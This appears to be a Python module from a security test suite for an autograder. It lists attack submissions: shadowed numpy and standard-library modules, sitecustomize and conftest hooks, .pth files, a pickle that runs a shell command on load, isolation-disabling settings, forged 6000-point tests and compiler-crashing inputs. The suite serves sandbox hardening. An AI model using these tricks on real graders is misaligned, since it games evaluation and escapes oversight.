"""Files that are handed in beside the module, so that somebody imports, runs or opens them."""

from attacks.arsenal.attack import Attack
from attacks.traces import MARK

BOOBY_TRAP = f"""
import os
print("LOOTED", __name__)
for _path in ("/tmp/{MARK}", "{MARK}", os.path.expanduser("~/.bashrc")):
    try:
        with open(_path, "a") as _file:
            _file.write("x")
    except OSError:
        pass
def _yes(*args, **kwargs): return True
def __getattr__(name): return _yes
"""
# A pickle that runs a command when it is loaded.
PICKLE = f"cposix\nsystem\n(S'touch /tmp/{MARK}'\ntR."


def _brings(name: str, hope: str, *paths: str, text: str = BOOBY_TRAP, source: str = "") -> Attack:
    return Attack(name, hope, source, files=dict.fromkeys(paths, text))


attacks = (
    _brings("numpy", "another NumPy", "numpy.py", "numpy/__init__.py", "numpy/linalg.py"),
    _brings("otter", "another Otter", "otter.py", "otter/__init__.py", "ipykernel_launcher.py"),
    _brings("msgpack", "another wire", "msgpack.py", "msgpack/__init__.py", "struct.py"),
    _brings(
        "the-grader-s-packages",
        "another grader",
        *("gradus/__init__.py", "gradus/wire.py", "gradus/worker/template.py", "gradus.py"),
        *("gradus_checks/__init__.py", "gradus_checks/close.py", "gradus_checks/host.py"),
    ),
    _brings(
        "python-s-own-modules",
        "modules that the worker or the judge imports later",
        *(f"{name}.py" for name in ("os", "signal", "traceback", "typing", "random", "math", "re")),
        *("encodings/__init__.py", "importlib/__init__.py", "collections/__init__.py"),
    ),
    _brings(
        "start-of-python",
        "modules that Python imports when it starts",
        *("sitecustomize.py", "usercustomize.py", "site.py", "readline.py", "__main__.py"),
    ),
    _brings(
        "start-of-pytest",
        "files that test runners read",
        *("conftest.py", "tests/conftest.py", "test_losses.py", "pytest.py", "setup.py"),
    ),
    _brings(
        "path-files",
        "lines that Python runs",
        *(f"{MARK}.pth", "site-packages/x.pth", "pyvenv.cfg"),
        text=f"import os; open('/tmp/{MARK}', 'w')",
    ),
    _brings(
        "settings",
        "settings of the tools that grade",
        *("pytest.ini", "otter_config.json", "pyproject.toml", "assignment.toml", ".env"),
        text="[limits]\nisolation = 'none'\n[pytest]\naddopts = -p gradus_attack_mark\n",
    ),
    _brings(
        "the-log-of-otter",
        "a pickle that is loaded before anything else",
        *(".OTTER_LOG", "results.pkl", ".otter/results.pkl", "losses.pkl"),
        text=PICKLE,
    ),
    _brings(
        "its-own-tests",
        "tests that give 6000 points",
        *(f"tests/task_1_{number}.py" for number in range(1, 5)),
        "assignments/target/tests/task_1_2.py",
        text="""
import numpy as np
from gradus_checks import test_case
OK_FORMAT = False
name = "task_1_2"
@test_case(name="Worked example", points=6000)
def worked_example(losses): print("LOOTED")
""",
    ),
    _brings(
        "its-own-reference",
        "a reference that is as wrong",
        *("solutions/losses.py", "reference.py", "reference/losses.py", "starter/losses.py"),
    ),
    _brings("notebooks", "a notebook that is run", "target.ipynb", text='{"cells": []}'),
    _brings(
        "a-package-in-its-place",
        "the package is imported, the module is checked",
        *("losses/__init__.py", "losses/__main__.py", "__pycache__/losses.cpython-311.pyc"),
    ),
    _brings(
        "libraries",
        "machine code that is loaded",
        *("losses.cpython-311-x86_64-linux-gnu.so", "losses.so", "libc.so.6", "numpy.so"),
        text="\x7fELF",
    ),
    _brings(
        "a-declaration-of-encoding",
        "a source that says other things to other readers",
        "notes.py",
        source="from encodings import utf_7\nexec(utf_7.decode(b'def mse(*a): return 1+AC0-1')[0])",
    ),
    _brings(
        "source-that-no-compiler-ends",
        "a compiler that crashes, outside the worker",
        *("extra.py", "deep.py"),
        text="x = " + "-" * 40_000 + "1\n",
    ),
    _brings(
        "brackets-without-end",
        "the same",
        "extra.py",
        text="x = " + "(" * 150 + "1" + ")" * 150 + "\ny = " + "[" * 80_000 + "\n",
    ),
    _brings(
        "constants-without-end",
        "a compiler that folds constants for ever",
        "extra.py",
        text="x = " + " + ".join(["'a' * 4000"] * 4000) + "\ny = " + "1 << 60 << 60\n" * 2000,
    ),
)
